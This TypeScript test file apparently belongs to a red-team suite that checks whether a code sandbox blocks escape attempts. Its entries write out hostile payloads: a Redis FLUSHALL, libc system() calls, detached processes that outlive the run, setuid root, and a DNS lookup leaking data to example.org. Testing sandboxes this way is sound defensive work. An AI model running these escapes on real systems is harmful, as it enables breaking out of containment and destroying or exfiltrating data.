import type { Attacks } from '../attack';
import { TOKEN } from '../attack';
import { perceptron } from '../notebooks';

/** Tries something and answers 0, which earns nothing: the machine must stay out of reach. */
const tried = (code: string) => perceptron(`${code}\nreturn 0;`);
const MODULE = (name: string) => `(process as any).getBuiltinModule?.('${name}') ?? require('${name}')`;

/** Attacks on the machine: files, programs, threads, the network, native code. */
export const machine: Attacks = {
  ...Object.fromEntries(
    ['/tmp', '/dev/shm', '/var/tmp', '.', process.cwd(), '/runtime'].map(folder => [
      `writes a file to ${folder.split('/').at(-1) || 'here'}`,
      tried(`(${MODULE('fs')}).writeFileSync(${JSON.stringify(`${folder}/${TOKEN}`)}, 'x');`),
    ]),
  ),
  'starts a program': tried(`(${MODULE('child_process')}).execSync('touch /tmp/${TOKEN}; sleep 100 &');`),
  'starts a program that outlives it': tried(
    `(${MODULE('child_process')}).spawn('sleep', ['1000'], { detached: true, stdio: 'ignore' }).unref();`,
  ),
  'starts a program by the binding': tried(
    "const { Process } = (process as any).binding('process_wrap'); new Process().spawn({ file: '/usr/bin/sleep', args: ['sleep', '1000'] });",
  ),
  'starts a thread': tried(`new (${MODULE('worker_threads')}).Worker('for (;;);', { eval: true });`),
  'calls libc through koffi': tried(
    "require('koffi').load('libc.so.6').func('int system(str)')('sleep 1000 &');",
  ),
  'loads an addon': tried("(process as any).dlopen({ exports: {} }, '/usr/lib/x86_64-linux-gnu/libc.so.6');"),
  'opens a connection': tried(`(${MODULE('net')}).connect(6379, '127.0.0.1').write('FLUSHALL\\n');`),
  'asks a web server': tried("void fetch('http://127.0.0.1:8888/?' + w);"),
  listens: tried(`(${MODULE('http')}).createServer(() => process.exit(0)).listen(8080);`),
  'looks up a name': tried(`(${MODULE('dns')}).lookup(w.join('.') + '.example.org', () => 1);`),
  'becomes root': tried('(process as any).setuid(0); (process as any).setgroups([0]);'),
  'opens the debugger': tried(
    '(process as any)._debugProcess(process.pid); process.kill(process.ppid, "SIGUSR1");',
  ),
  'imports a module later': tried(
    "void import('node:fs').then(fs => fs.writeFileSync('/tmp/redteam-was-here', 'x'));",
  ),
  'imports a module by eval': tried('void new Function(\'return import("node:child_process")\')();'),
};
